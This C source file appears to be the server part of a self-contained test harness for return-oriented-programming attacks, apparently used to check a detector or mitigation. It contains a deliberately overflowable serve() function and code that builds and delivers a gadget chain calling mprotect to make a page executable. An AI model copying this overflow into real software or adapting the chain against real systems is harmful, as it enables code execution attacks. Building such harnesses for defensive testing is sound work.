/* The server around the attacks. */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

char *page;
word page_size = 4096;
static int pipe_fds[2];
static volatile size_t slot_offset; /* from the buffer of serve() to its return slot */
static volatile word saved_frame;

__attribute__((noinline)) void win(void)
{
	mprotect(page, page_size, PROT_READ | PROT_EXEC);
	exit42();
}

__attribute__((noinline)) void win_returns(void)
{
	mprotect(page, page_size, PROT_READ | PROT_EXEC);
}

__attribute__((noinline)) long serve(int fd)
{
	volatile char buffer[64];
#ifdef __aarch64__
	char *frame = *(char **)__builtin_frame_address(0); /* one's own lies below the buffer */
#else
	char *frame = __builtin_frame_address(0);
#endif
	long n;

	slot_offset = frame + 8 - (char *)buffer;
	saved_frame = *(word *)frame;
	n = read(fd, (char *)buffer, 4096);
	return n + buffer[0];
}

#ifndef __aarch64__ /* there the compiler's frame may lie anywhere: gadgets_a64.c */
__attribute__((noinline)) void corrupt(const word *words, size_t n)
{
	volatile word *slot = (volatile word *)((char *)__builtin_frame_address(0) + 8);
	size_t i;

	for (i = 0; i < n; i++)
		slot[i] = words[i];
}
#endif

size_t chain(word *words, int call_preceded, int nops, int padding)
{
	size_t n = 0;
	int i;
	const word pieces[][2] = {
		{(word)(call_preceded ? cp_pop_rdi : g_pop_rdi), (word)page},
		{(word)(call_preceded ? cp_pop_rsi : g_pop_rsi), page_size},
		{(word)(call_preceded ? cp_pop_rdx : g_pop_rdx), PROT_READ | PROT_EXEC},
		{(word)(call_preceded ? cp_pop_rax : g_pop_rax), SYS_mprotect},
	};

	for (i = 0; i < padding; i++) {
		words[n++] = (word)g_pop_rdi;
		words[n++] = i;
	}
	for (i = 0; i < 4; i++) {
		words[n++] = pieces[i][0];
		words[n++] = pieces[i][1];
		if (nops) {
			words[n++] = (word)g_nops;
			FRAME_WORD(words, n);
		}
	}
	words[n++] = (word)(call_preceded ? cp_syscall : g_syscall);
	FRAME_WORD(words, n);
	if (nops) {
		words[n++] = (word)g_nops;
		FRAME_WORD(words, n);
	}
	/* With ATTACK_PROVE the chain ends in the page: status 43 tells that it has become code. */
	words[n++] = getenv("ATTACK_PROVE") ? (word)page : (word)(call_preceded ? cp_exit : (char *)exit42);
	return n;
}

void request(const word *words, size_t n)
{
	char bytes[4096] = "an honest request";
	size_t length = 32;

	if (n) {
		memset(bytes, 'A', slot_offset - 8);
		memcpy(bytes + slot_offset - 8, (const void *)&saved_frame, 8);
		memcpy(bytes + slot_offset, words, n * sizeof(*words));
		length = slot_offset + n * sizeof(*words);
	}
	if (write(pipe_fds[1], bytes, length) != (ssize_t)length)
		_exit(3);
	SERVE(pipe_fds[0]);
}

#define MOST_ROUNDS 10000
static void *volatile keep;

void warm_up(void (*also)(void))
{
	const struct timespec pause = {0, 2000000};
	const char *rounds = getenv("ATTACK_ROUNDS");
	/* The watcher says when it knows the server: a file named after the attack. */
	const char *waits_for = getenv("ATTACK_READY");
	char ready_file[256];
	int i, n = rounds ? atoi(rounds) : waits_for ? 10 : 80;

	if (waits_for) {
		snprintf(ready_file, sizeof(ready_file), "%s.%s", waits_for, program_invocation_short_name);
		waits_for = ready_file;
	}

	page = mmap(0, page_size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED || pipe(pipe_fds))
		_exit(3);
	/* As many mappings as ATTACK_MAPPINGS says: neighbours of unequal rights are not joined. */
	for (i = 0; getenv("ATTACK_MAPPINGS") && i < atoi(getenv("ATTACK_MAPPINGS")); i++)
		mmap(0, page_size, i & 1 ? PROT_READ : PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	/* A stack that others use too: what attacks write above their frames is warm memory. Once: a stack that grows in
	   each round is new memory to the walker in each round. */
	keep = memset(__builtin_alloca(8192), 1, 8192);
	if (getenv("ATTACK_PROVE"))
		exit_code(page, 43);
	for (i = 0; i < n || (waits_for && i < MOST_ROUNDS); i++) {
		word stay = 0;

		/* Then some more, so that the file's own appearance is not what the attack meets. */
		if (waits_for && access(waits_for, F_OK) == 0) {
			waits_for = 0;
			n = i + 5;
		}

		request(0, 0);
		if (also)
			also();
		else
			corrupt(&stay, 0);
		nanosleep(&pause, 0);
	}
}

void ready(void)
{
	if (getenv("ATTACK_STOP"))
		raise(SIGSTOP);
}
